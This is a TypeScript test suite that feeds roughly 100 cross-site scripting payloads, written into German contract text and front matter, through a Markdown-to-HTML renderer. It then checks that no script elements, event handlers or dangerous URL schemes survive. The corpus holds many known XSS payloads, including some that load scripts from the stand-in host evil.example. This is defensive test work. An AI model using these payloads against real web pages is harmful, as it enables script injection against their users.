import { strict as assert } from 'node:assert';
import { parse as parseHtml, parseFragment } from 'parse5';
import { renderHtmlDocument, renderHtmlFragment } from '../../server/src/core/render/html.js';
import { parse } from '../support/helpers.js';

/**
 * Preview security: an XSS corpus in contract text renders to HTML with nothing executable. The output is
 * parsed with a real HTML parser (parse5, as browsers parse it) and every element and attribute is checked:
 * no script-capable elements, no event handlers, no style attributes, no URL with a scheme other than
 * http, https or mailto. One test per payload and renderer.
 */

const BODY = (payload: string) => `## § 1 Gegenstand\n\n(1) Text davor.\n\n${payload}\n\n(2) Text danach.\n`;
const FRONT = (yaml: string) => `---\n${yaml}\n---\n\n## § 1 Gegenstand\n\n(1) Text.\n`;
const B64 = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';

/** [name, contract text]; the payloads stand where a contract author could write them. */
const CORPUS: [string, string][] = [
  // script tags in all spellings
  ['script tag', BODY('<script>alert(1)</script>')],
  ['script tag, upper case', BODY('<SCRIPT>alert(1)</SCRIPT>')],
  ['script tag, mixed case with src', BODY('<ScRiPt src="https://evil.example/x.js"></sCrIpT>')],
  ['script tag with a slash attribute', BODY('<script/x>alert(1)</script>')],
  ['script tag split by a nested script tag', BODY('<scr<script>ipt>alert(1)</scr</script>ipt>')],
  ['double-bracket script', BODY('<<script>alert(1)//<</script>')],
  ['script tag with line breaks inside the tags', BODY('<script\n>alert(1)</script\n>')],
  ['inline script in a paragraph', BODY('Der Auftragnehmer <script>alert(1)</script> verarbeitet.')],
  ['script inside an SVG', BODY('<svg><script>alert(1)</script></svg>')],
  ['unclosed script tag', BODY('<script>alert(1)')],
  // event handlers on common elements
  ['img onerror', BODY('<img src=x onerror=alert(1)>')],
  ['img ONERROR mixed case', BODY('<IMG SRC=x OnErRoR=alert(1)>')],
  ['img with slashes as separators', BODY('<img/src=x/onerror=alert(1)>')],
  ['body onload', BODY('<body onload=alert(1)>')],
  ['div onmouseover', BODY('<div onmouseover="alert(1)">x</div>')],
  ['a onclick with a safe href', BODY('<a href="https://example.org" onclick="alert(1)">x</a>')],
  ['p onclick', BODY('<p onclick=alert(1)>Absatz</p>')],
  ['span onfocus autofocus', BODY('<span tabindex=0 autofocus onfocus=alert(1)>x</span>')],
  ['input autofocus onfocus', BODY('<input autofocus onfocus=alert(1)>')],
  ['details ontoggle', BODY('<details open ontoggle=alert(1)><summary>x</summary></details>')],
  ['video source onerror', BODY('<video><source onerror=alert(1)></video>')],
  ['audio onerror', BODY('<audio src=x onerror=alert(1)></audio>')],
  ['table and cell handlers', BODY('<table onmouseover=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>')],
  ['marquee onstart', BODY('<marquee onstart=alert(1)>x</marquee>')],
  ['select and textarea autofocus', BODY('<select autofocus onfocus=alert(1)></select><textarea autofocus onfocus=alert(1)></textarea>')],
  ['heading onclick', BODY('<h2 onclick=alert(1)>§ 9 Titel</h2>')],
  ['list item onclick', BODY('<ul><li onclick=alert(1)>x</li></ul>')],
  ['button onclick', BODY('<button onclick=alert(1)>OK</button>')],
  ['handler with an entity-encoded equals sign', BODY('<img src=x onerror&#x3d;alert(1)>')],
  // javascript:, vbscript: and data: URLs in links, images, autolinks and reference definitions
  ['markdown link javascript:', BODY('[Anlage](javascript:alert(1))')],
  ['markdown link JaVaScRiPt:', BODY('[Anlage](JaVaScRiPt:alert(1))')],
  ['markdown link with an entity-encoded colon', BODY('[Anlage](javascript&#58;alert(1))')],
  ['markdown link with an entity-encoded letter', BODY('[Anlage](&#106;avascript:alert(1))')],
  ['markdown link in angle brackets', BODY('[Anlage](<javascript:alert(1)>)')],
  ['markdown link vbscript:', BODY('[Anlage](vbscript:msgbox(1))')],
  ['markdown link data:text/html', BODY(`[Anlage](data:text/html;base64,${B64})`)],
  ['markdown image javascript:', BODY('![Logo](javascript:alert(1))')],
  ['markdown image data:text/html', BODY('![Logo](data:text/html,<script>alert(1)</script>)')],
  ['autolink javascript:', BODY('<javascript:alert(1)>')],
  ['autolink vbscript:', BODY('<vbscript:msgbox(1)>')],
  ['autolink data:', BODY(`<data:text/html;base64,${B64}>`)],
  ['reference definition javascript:', BODY('Siehe [Anlage 1].\n\n[Anlage 1]: javascript:alert(1)')],
  ['full reference data:', BODY(`Siehe [hier][r].\n\n[r]: data:text/html;base64,${B64} "Titel"`)],
  ['image reference vbscript:', BODY('![Logo][l]\n\n[l]: vbscript:msgbox(1)')],
  ['html a href javascript:', BODY('<a href="javascript:alert(1)">x</a>')],
  ['html a href with leading spaces and tab', BODY('<a href="  java\tscript:alert(1)">x</a>')],
  ['html a href entity-encoded', BODY('<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>')],
  ['html a href with zero-padded decimal entities', BODY('<a href="&#0000106&#0000097vascript:alert(1)">x</a>')],
  ['html img src javascript: upper case', BODY('<IMG SRC=JaVaScRiPt:alert(1)>')],
  ['html a xlink:href', BODY('<a xlink:href="javascript:alert(1)">x</a>')],
  // SVG and MathML tricks
  ['svg onload', BODY('<svg onload=alert(1)>')],
  ['svg a xlink:href', BODY('<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>')],
  ['svg animate onbegin', BODY('<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>')],
  ['svg set href to javascript:', BODY('<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>')],
  ['svg use with a data: URL', BODY(`<svg><use href="data:image/svg+xml;base64,${B64}#x"/></svg>`)],
  ['svg foreignObject iframe', BODY('<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>')],
  ['mathml mglyph style mutation', BODY('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>')],
  ['mathml href', BODY('<math href="javascript:alert(1)"><mi>x</mi></math>')],
  ['mathml maction', BODY('<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>')],
  // iframes, object, embed, base, meta refresh, form
  ['iframe javascript:', BODY('<iframe src="javascript:alert(1)"></iframe>')],
  ['iframe srcdoc', BODY('<iframe srcdoc="<script>alert(1)</script>"></iframe>')],
  ['object data', BODY('<object data="javascript:alert(1)"></object>')],
  ['embed data:', BODY(`<embed src="data:text/html;base64,${B64}">`)],
  ['base href', BODY('<base href="javascript:alert(1)//">')],
  ['meta refresh', BODY('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">')],
  ['form action', BODY('<form action="javascript:alert(1)"><button>Senden</button></form>')],
  ['button formaction', BODY('<button formaction="javascript:alert(1)">x</button>')],
  ['link import', BODY('<link rel="import" href="https://evil.example/x.html">')],
  ['frameset onload', BODY('<frameset onload=alert(1)></frameset>')],
  // CSS url() and expression() in style attributes and elements
  ['style url(javascript:)', BODY('<div style="background:url(javascript:alert(1))">x</div>')],
  ['style expression()', BODY('<p style="width:expression(alert(1))">x</p>')],
  ['style behavior', BODY('<span style="behavior:url(x.htc)">x</span>')],
  ['style -moz-binding', BODY('<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>')],
  ['style element', BODY('<style>body{background:url("javascript:alert(1)")}</style>')],
  ['style element closing early', BODY('<style></style><script>alert(1)</script>')],
  // HTML comments and CDATA breaking out
  ['comment closed by -->', BODY('<!--><script>alert(1)</script>-->')],
  ['comment closed by --!>', BODY('<!-- --!><script>alert(1)</script> -->')],
  ['comment inside an attribute', BODY('<!--<img src="--><img src=x onerror=alert(1)//">')],
  ['CDATA section', BODY('<![CDATA[<script>alert(1)</script>]]>')],
  ['directive comment followed by a script', BODY('<!-- avv-disable dangling-reference: Grund --><script>alert(1)</script>')],
  ['stray comment end', BODY('--><script>alert(1)</script>')],
  ['processing instruction', BODY('<?xml version="1.0"?><script>alert(1)</script>')],
  // entity-encoded payloads (must stay text)
  ['entity-encoded script tag', BODY('&lt;script&gt;alert(1)&lt;/script&gt;')],
  ['script tag in inline code and a code block', BODY('`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```')],
  // front-matter values in the title block
  ['title closing the title element', FRONT('titel: "</title><script>alert(1)</script>"')],
  ['title with an img', FRONT('titel: "<img src=x onerror=alert(1)>"')],
  ['title closing the style element', FRONT('titel: "</style><script>alert(1)</script>"')],
  ['party name with a script', FRONT('parteien:\n  auftraggeber:\n    name: "<script>alert(1)</script>"\n  auftragnehmer:\n    name: Muster GmbH')],
  ['party address breaking an attribute', FRONT('parteien:\n  auftraggeber:\n    name: A GmbH\n    anschrift: "\\"><svg onload=alert(1)>"\n  auftragnehmer:\n    name: B GmbH')],
  ['party representative with an iframe', FRONT("parteien:\n  auftragnehmer:\n    name: B GmbH\n    vertreten_durch: \"<iframe src='javascript:alert(1)'></iframe>\"")],
  // defined terms, table cells, headings
  ['defined term with an img', BODY('Die Muster GmbH (nachfolgend „<img src=x onerror=alert(1)>“) verarbeitet.')],
  ['defined term with a script', BODY('Die Muster GmbH (nachfolgend „Auftragnehmer<script>alert(1)</script>“) verarbeitet.')],
  ['table cells', BODY('| Unterauftragnehmer | Leistung |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n| [x](javascript:alert(1)) | <a href="vbscript:x">y</a> |')],
  ['heading with a script (also in the table of contents)', '## § 1 Gegenstand <script>alert(1)</script>\n\n(1) Text.\n\n## § 2 <img src=x onerror=alert(1)>\n\n(1) Text.\n'],
  ['annex heading with an svg', '## § 1 Gegenstand\n\n(1) Text.\n\n# Anlage 1 <svg onload=alert(1)>\n\nInhalt.\n'],
  ['bold heading with a handler', '**§ 1 <b onmouseover=alert(1)>Gegenstand</b>**\n\n(1) Text.\n'],
  ['placeholder with markup', BODY('[<img src=x onerror=alert(1)>] und {{<script>alert(1)</script>}}')],
];

const FORBIDDEN = new Set(['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'meta', 'form', 'link', 'style', 'svg', 'math', 'template', 'noscript', 'portal']);
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'data', 'poster', 'background', 'cite', 'srcset', 'lowsrc', 'dynsrc', 'codebase', 'longdesc', 'ping', 'xlink:href', 'xmlns:xlink', 'manifest', 'usemap']);
const ALLOWED_SCHEMES = new Set(['http', 'https', 'mailto']);

interface Node {
  nodeName: string;
  tagName?: string;
  attrs?: { name: string; value: string; prefix?: string }[];
  childNodes?: Node[];
  content?: Node;
  value?: string;
}

function* elements(node: Node): Generator<Node> {
  if (node.tagName) yield node;
  for (const child of node.childNodes ?? []) yield* elements(child);
  if (node.content) yield* elements(node.content);
}

/** Everything in `root` that could execute, as readable strings (empty when safe). */
function executable(root: Node, allowed: (el: Node) => boolean = () => false): string[] {
  const problems: string[] = [];
  for (const el of elements(root)) {
    if (allowed(el)) continue;
    if (FORBIDDEN.has(el.tagName!)) problems.push(`<${el.tagName}>`);
    for (const a of el.attrs ?? []) {
      const name = (a.prefix ? `${a.prefix}:${a.name}` : a.name).toLowerCase();
      if (name.startsWith('on')) problems.push(`${el.tagName}[${name}]`);
      if (name === 'style' || name === 'srcdoc' || name === 'formaction') problems.push(`${el.tagName}[${name}]`);
      if (URL_ATTRIBUTES.has(name)) {
        // browsers drop ASCII whitespace and control characters before they look at the scheme
        // eslint-disable-next-line no-control-regex
        const url = a.value.replace(/[\u0000-\u0020\u007f]/gu, '');
        const scheme = /^([a-z][a-z\d+.-]*):/iu.exec(url)?.[1]?.toLowerCase();
        if (scheme !== undefined && !ALLOWED_SCHEMES.has(scheme)) problems.push(`${el.tagName}[${name}="${a.value}"]`);
      }
    }
  }
  return problems;
}

const text = (node: Node): string => (node.nodeName === '#text' ? node.value ?? '' : (node.childNodes ?? []).map(text).join(''));
const find = (root: Node, tag: string): Node[] => [...elements(root)].filter((e) => e.tagName === tag);

// the head of the exported document is ours: exactly these elements, compared against a harmless contract
const BASELINE_HEAD = headShape(parseHtml(renderHtmlDocument(parse('## § 1 Gegenstand\n\n(1) Text.\n'))) as unknown as Node);
function headShape(doc: Node): string[] {
  const head = find(doc, 'head')[0]!;
  return (head.childNodes ?? []).filter((n) => n.tagName).map((n) => `${n.tagName} ${JSON.stringify(n.attrs)}${n.tagName === 'style' ? text(n) : ''}`);
}

describe('preview security: XSS corpus', () => {
  it(`has at least 60 payloads (${CORPUS.length})`, () => assert.ok(CORPUS.length >= 60));

  it('the checker finds what it must find', () => {
    const dirty = parseFragment('<p onclick="x" style="y">a</p><a href=" JaVa\nScript:x">b</a><img src="data:text/html,x"><a href="https://ok">c</a><a href="#x">d</a><a href="rel/path">e</a><script></script>') as unknown as Node;
    assert.deepEqual(executable(dirty), ['p[onclick]', 'p[style]', 'a[href=" JaVa\nScript:x"]', 'img[src="data:text/html,x"]', '<script>']);
  });

  for (const [name, contract] of CORPUS) {
    it(`fragment: ${name}`, () => {
      const html = renderHtmlFragment(parse(contract));
      assert.deepEqual(executable(parseFragment(html) as unknown as Node), [], html);
    });
    it(`document: ${name}`, () => {
      const html = renderHtmlDocument(parse(contract));
      const doc = parseHtml(html) as unknown as Node;
      const head = find(doc, 'head')[0]!;
      assert.deepEqual(headShape(doc).filter((h) => !h.startsWith('title ')), BASELINE_HEAD.filter((h) => !h.startsWith('title ')), 'the head is exactly ours');
      assert.deepEqual(find(head, 'title').map((t) => (t.childNodes ?? []).map((c) => c.nodeName)), [['#text']], 'the title is text only');
      assert.deepEqual(executable(find(doc, 'body')[0]!), [], html);
    });
  }

  it('front-matter values reach the title block as text, unchanged', () => {
    const payload = '</title><script>alert(1)</script>';
    const doc = parseHtml(renderHtmlDocument(parse(FRONT(`titel: "${payload}"`)))) as unknown as Node;
    assert.equal(text(find(doc, 'title')[0]!), payload);
    assert.equal(text(find(doc, 'h1')[0]!), payload);
  });

  it('the exported document forbids scripts by its content-security policy', () => {
    const doc = parseHtml(renderHtmlDocument(parse('## § 1 Gegenstand\n'))) as unknown as Node;
    const csp = find(doc, 'meta').find((m) => m.attrs?.some((a) => a.name === 'http-equiv' && a.value === 'Content-Security-Policy'));
    const content = csp?.attrs?.find((a) => a.name === 'content')?.value ?? '';
    assert.match(content, /default-src 'none'/u);
    assert.doesNotMatch(content, /script-src/u);
  });
});
